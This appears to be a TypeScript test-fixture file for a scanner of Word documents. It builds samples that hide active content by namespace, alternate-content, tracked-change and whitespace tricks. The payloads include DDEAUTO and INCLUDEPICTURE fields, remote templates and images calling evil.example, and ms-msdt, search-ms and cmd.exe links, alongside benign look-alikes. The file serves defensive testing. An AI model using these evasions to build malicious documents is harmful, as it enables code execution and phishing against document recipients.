import * as make from '../make-test-documents.ts';
import type { SampleRow } from './document-sample.ts';

const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const STRICT_WORD = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
const NAMESPACES = `xmlns:w="${WORD}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:z="urn:z" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" mc:Ignorable="z"`;
const documentOf = (content: string, namespaces = NAMESPACES, prefix = 'w') =>
  make.makeZip([
    make.contentTypes(),
    {
      name: 'word/document.xml',
      content: `<?xml version="1.0"?><${prefix}:document ${namespaces}><${prefix}:body><${prefix}:p>${content}</${prefix}:p></${prefix}:body></${prefix}:document>`,
    },
  ]);
const run = (content: string) => `<w:r>${content}</w:r>`;
const char = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instruction = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const deleted = (content: string) => `<w:del w:id="1" w:author="a">${content}</w:del>`;
const deletedInstruction = (text: string) => run(`<w:delInstrText>${text}</w:delInstrText>`);
const result = `${char('separate')}${run('<w:t>x</w:t>')}${char('end')}`;
const field = (...content: string[]) => char('begin') + content.join('') + result;
/** Content that only a reader of the namespace shows; others show the fallback, which is empty. */
const choice = (content: string, requires = 'z') =>
  `<mc:AlternateContent><mc:Choice Requires="${requires}">${content}</mc:Choice><mc:Fallback/></mc:AlternateContent>`;
const fallback = (content: string) =>
  `<mc:AlternateContent><mc:Choice Requires="wps"/><mc:Fallback>${content}</mc:Fallback></mc:AlternateContent>`;
const ignored = (content: string) => `<z:wrapper>${content}</z:wrapper>`;
const textBox = (content: string) =>
  run(`<w:pict><v:textbox><w:txbxContent><w:p>${content}</w:p></w:txbxContent></v:textbox></w:pict>`);
const longPrefix = 'w'.repeat(250);

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationOf = (attributes: string, part = 'word/_rels/document.xml.rels') =>
  make.makeDocx({
    name: part,
    content: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:z="urn:z"><Relationship Id="r1" ${attributes}/></Relationships>`,
  });
const remoteImage = `Type="${OFFICE}/image" Target="http://evil.example/a.png" TargetMode="External"`;
const linkTo = (target: string) => relationOf(`Type="${OFFICE}/hyperlink" Target="${target}" TargetMode="External"`);

/** Ways to change a field that some readers leave out, so that they see another field. */
const partial: [title: string, around: (content: string) => string][] = [
  ['an alternative of an unknown namespace', choice],
  ['an alternative of a known namespace', (content) => choice(content, 'wps')],
  ['a fallback', fallback],
  ['an ignorable element', ignored],
  ['a text box', textBox],
];

/** Word documents whose namespaces, alternatives and tracked changes hide active content, and genuine ones with the same markup. */
/** A part without XML declaration, which may begin with any number of blanks. */
const blankedPart = (name: string, blanks: number) => {
  const content = `${' '.repeat(blanks)}<w:document ${NAMESPACES}><w:body><w:p>${field(instruction('DDEAUTO x y'))}</w:p></w:body></w:document>`;
  return name === 'word/document.xml'
    ? make.makeZip([make.contentTypes(), { name, content }])
    : make.makeDocx({ name, content });
};

export const hostileWordMarkup: SampleRow[] = [
  // Parts and texts that a scan may not read to the end.
  ...[64, 600, 70_000].flatMap((blanks): SampleRow[] => [
    [`DDEAUTO in a part after ${blanks} blanks`, () => blankedPart('word/header1.xml', blanks), 'active'],
    [`DDEAUTO in the main part after ${blanks} blanks`, () => blankedPart('word/document.xml', blanks), 'active'],
  ]),
  ...['<z:t/>', '<w:t/>', '<z:x></z:x>'].map(
    (child): SampleRow => [
      `DDEAUTO, ${child} in its text`,
      () => documentOf(field(run(`<w:instrText>D${child}DEAUTO x</w:instrText>`))),
      'active',
    ],
  ),
  ['video of a website', () => documentOf(run('<wps:webVideoPr embeddedHtml="&lt;script/&gt;"/>')), 'active'],
  // Attributes and elements of namespaces that readers ignore.
  ['DDEAUTO, z:instr', () => documentOf('<w:fldSimple w:instr="DDEAUTO x y" z:instr="PAGE"/>'), 'active'],
  ['two instructions without DDE', () => documentOf('<w:fldSimple w:instr="DATE" z:instr="PAGE"/>'), 'active'],
  [
    'DDEAUTO, z:fldCharType',
    () =>
      documentOf(run('<w:fldChar w:fldCharType="begin" z:fldCharType="none"/>') + instruction('DDEAUTO x') + result),
    'active',
  ],
  [
    'LINK, unknown type of character',
    () => documentOf(run('<w:fldChar z:fldCharType="begin"/>') + instruction('LINK Excel.Sheet.12 a') + result),
    'active',
  ],
  [
    'DDEAUTO, z:fldChar',
    () => documentOf(field(instruction('D'), '<z:fldChar z:fldCharType="end"/>', instruction('DEAUTO x'))),
    'active',
  ],
  [
    'INCLUDEPICTURE, z:instrText',
    () => documentOf(field('<z:instrText>PAGE </z:instrText>', instruction('INCLUDEPICTURE "http://evil.example/a"'))),
    'active',
  ],
  ['field of another namespace', () => documentOf('<z:fldSimple z:instr="PAGE"/>'), 'active'],
  [
    'field whose prefix means another namespace',
    () => documentOf('<w:fldSimple xmlns:w="urn:z" w:instr="PAGE"/>'),
    'active',
  ],
  [
    'DDEAUTO under a long prefix',
    () => documentOf(`<${longPrefix}:fldSimple xmlns:${longPrefix}="${WORD}" w:instr="DDEAUTO x"/>`),
    'active',
  ],
  [
    'DDEAUTO under a prefix with a character that is no blank of XML',
    () => documentOf(`<w\u1680:fldSimple xmlns:w\u1680="${WORD}" w:instr="DDEAUTO x"/>`),
    'active',
  ],
  [
    'DDEAUTO in references with leading zeros',
    () => documentOf('<w:fldSimple w:instr="&#x0000000000044;&#0000000000068;EAUTO x"/>'),
    'active',
  ],
  // Content that some readers leave out, or read apart.
  ...partial.flatMap(([title, around]): SampleRow[] => [
    [
      `DDEAUTO, end in ${title}`,
      () => documentOf(field(instruction('D'), around(char('end')), instruction('DEAUTO x'))),
      'active',
    ],
    [
      `LINK, separator in ${title}`,
      () => documentOf(field(around(char('separate')), instruction('LINK a b'))),
      'active',
    ],
    [
      `INCLUDEPICTURE, instruction in ${title}`,
      () => documentOf(field(around(instruction('PAGE ')), instruction('INCLUDEPICTURE "http://evil.example/a"'))),
      'active',
    ],
    [
      `INCLUDEPICTURE, begin in ${title}`,
      () => documentOf(around(char('begin')) + instruction('INCLUDEPICTURE "http://evil.example/a"') + result),
      'active',
    ],
    [
      `INCLUDEPICTURE, text in ${title}`,
      () => documentOf(field(around(run('<w:t>PAGE </w:t>')), instruction('INCLUDEPICTURE "http://evil.example/a"'))),
      'active',
    ],
  ]),
  [
    'DDEAUTO in a main part under the name of a picture, nested deeply',
    () =>
      make.makeZip([
        make.contentTypes(undefined, '/word/media/document.xml'),
        {
          name: 'word/media/document.xml',
          content: `<w:document ${NAMESPACES}>${'<w:sdt>'.repeat(2_000)}<w:fldSimple w:instr="DDEAUTO x"/>${'</w:sdt>'.repeat(2_000)}</w:document>`,
        },
      ]),
    'broken',
  ],
  // Tracked changes.
  [
    'INCLUDEPICTURE after a deleted instruction',
    () => documentOf(field(deletedInstruction('PAGE '), instruction('INCLUDEPICTURE "http://evil.example/a"'))),
    'active',
  ],
  [
    'DDEAUTO after a deleted instruction',
    () => documentOf(field(deleted(deletedInstruction('PAGE ')), instruction('DDEAUTO x'))),
    'active',
  ],
  [
    'LINK after a deleted separator',
    () => documentOf(field(deleted(char('separate')), instruction('LINK a b'))),
    'active',
  ],
  [
    'INCLUDEPICTURE after a deleted end',
    () => documentOf(field(deleted(char('end')), instruction('INCLUDEPICTURE "http://evil.example/a"'))),
    'active',
  ],
  // Instructions outside of the marks of a field.
  ...[
    'DDEAUTO x',
    'DDE x',
    'LINK Excel.Sheet.12 &quot;C:\\\\a.xlsx&quot;',
    'DATABASE \\d &quot;a&quot;',
    'INCLUDETEXT &quot;http://evil.example/a&quot;',
    'INCLUDEPICTURE \\d &quot;http://evil.example/a&quot;',
  ].map(
    (text): SampleRow => [
      `instruction ${text} after the end of a field`,
      () => documentOf(field(instruction(' PAGE ')) + instruction(text)),
      'active',
    ],
  ),
  [
    'instructions without an end',
    () => documentOf(Array.from({ length: 1_200 }, () => field(instruction(` ${'a '.repeat(500)}`))).join('')),
    'active',
  ],
  // Relations.
  [
    'picture, z:Target and z:TargetMode',
    () => relationOf(`${remoteImage} z:Target="a" z:TargetMode="Internal"`),
    'active',
  ],
  ['picture, z:TargetMode', () => relationOf(`${remoteImage} z:TargetMode="Internal"`), 'active'],
  ['picture, z:Type', () => relationOf(`${remoteImage} z:Type="${OFFICE}/hyperlink"`), 'active'],
  ['picture, z:Type before', () => relationOf(`z:Type="${OFFICE}/hyperlink" ${remoteImage}`), 'active'],
  ['macros, z:Type', () => relationOf(`Type="${OFFICE}/vbaProject" Target="a.bin" z:Type="${OFFICE}/image"`), 'macros'],
  [
    'template, z:Target',
    () =>
      relationOf(
        `Type="${OFFICE}/attachedTemplate" Target="\\\\evil.example\\s\\t.dotm" TargetMode="External" z:Target="a.dotx"`,
        'word/_rels/settings.xml.rels',
      ),
    'active',
  ],
  [
    'inner picture with a second target',
    () => relationOf(`Type="${OFFICE}/image" Target="a.png" z:Target="b"`),
    'active',
  ],
  // Drawings.
  [
    'drawing with two pictures',
    () => documentOf(run('<w:pict><v:imagedata src="http://evil.example/a.png" z:src="a.png"/></w:pict>')),
    'active',
  ],
  ['drawing that is a picture', () => documentOf('<v:image src="http://evil.example/a.png"/>'), 'active'],
  ['drawing that is a link to a program', () => documentOf('<v:shape href="ms-msdt:/id PCWDiagnostic"/>'), 'active'],
  // Links.
  ...[
    'ms-msdt:/id PCWDiagnostic',
    'search-ms:query=x&amp;crumb=location:\\\\evil.example\\s',
    'ms-word:ofe|u|http://evil.example/a.docm',
    'm&#115;-officecmd:x',
    'ms-%6Dsdt:x',
    'ldap://evil.example/a',
    'file:///C:/Windows/System32/cmd.exe',
    'C:\\Windows\\System32\\calc.exe',
  ].flatMap((target): SampleRow[] => [
    [`link to ${target}`, () => linkTo(target), 'active'],
    [
      `HYPERLINK to ${target}`,
      () => documentOf(field(instruction(`HYPERLINK "${target.replaceAll('\\', '\\\\')}"`))),
      'active',
    ],
  ]),
  ['HYPERLINK, quoted switch before', () => documentOf(field(instruction('HYPERLINK "\\o" "ms-msdt:x"'))), 'active'],
  [
    'HYPERLINK with a computed address',
    () => documentOf(field(instruction('HYPERLINK "'), field(instruction('QUOTE a')), instruction('"'))),
    'active',
  ],
  // What must be accepted.
  ...[
    'https://example.com/a:b',
    'www.example.com',
    '#top',
    'mailto:a@example.com',
    'tel:+91 98765 43210',
    'work.pdf',
  ].flatMap((target): SampleRow[] => [
    [`link to ${target}`, () => linkTo(target), 'docx'],
    [`HYPERLINK to ${target}`, () => documentOf(field(instruction(`HYPERLINK "${target}"`))), 'docx'],
  ]),
  ['link to a file of its author', () => linkTo('file:///C:\\Users\\a\\work.pdf'), 'docx'],
  [
    'HYPERLINK with a screen tip and a bookmark',
    () => documentOf(field(instruction('HYPERLINK "https://example.com" \\l "a:b" \\o "Note: link to my work"'))),
    'docx',
  ],
  ['drawing that is a link', () => documentOf('<v:shape href="https://example.com"/>'), 'docx'],
  [
    'text box with fields for new and old readers',
    () => {
      const content = field(instruction(' PAGE ')) + field(instruction('HYPERLINK "https://linkedin.com/in/link"'));
      const box = `<wps:txbx><w:txbxContent><w:p>${content}</w:p></w:txbxContent></wps:txbx>`;
      return documentOf(
        run(
          `<mc:AlternateContent><mc:Choice Requires="wps"><w:drawing>${box}</w:drawing></mc:Choice><mc:Fallback>${textBox(content)}</mc:Fallback></mc:AlternateContent>`,
        ),
      );
    },
    'docx',
  ],
  [
    'picture as the result of a link',
    () =>
      documentOf(
        char('begin') +
          instruction('HYPERLINK "https://example.com"') +
          char('separate') +
          choice(run(`<w:drawing>${textBox(run('<w:t>x</w:t>'))}</w:drawing>`), 'wps') +
          char('end'),
      ),
    'docx',
  ],
  [
    'tracked changes of fields',
    () =>
      documentOf(
        deleted(char('begin') + deletedInstruction('HYPERLINK "https://example.com"') + result) +
          `<w:ins w:id="2" w:author="a">${field(instruction('HYPERLINK "https://example.com/b"'))}</w:ins>` +
          field(deleted(deletedInstruction(' PAGE ')), instruction(' DATE ')),
      ),
    'docx',
  ],
  [
    'field over paragraphs and table cells',
    () =>
      documentOf(
        `${char('begin')}${instruction(' TOC \\o "1-3" ')}${char('separate')}</w:p><w:tbl><w:tr><w:tc><w:p>${run('<w:t>x</w:t>')}</w:p></w:tc></w:tr></w:tbl><w:sdt><w:sdtContent><w:p>${char('end')}</w:p></w:sdtContent></w:sdt><w:p>`,
      ),
    'docx',
  ],
  [
    'texts that name fields',
    () => documentOf(field(instruction(' MACROBUTTON NoMacro [List database, link and import skills] '))),
    'docx',
  ],
  [
    'another prefix of the namespace',
    () => documentOf('<ns0:fldSimple ns0:instr=" PAGE "/>', `xmlns:ns0="${WORD}"`, 'ns0'),
    'docx',
  ],
  ['the strict namespace', () => documentOf('<w:fldSimple w:instr=" PAGE "/>', `xmlns:w="${STRICT_WORD}"`), 'docx'],
];
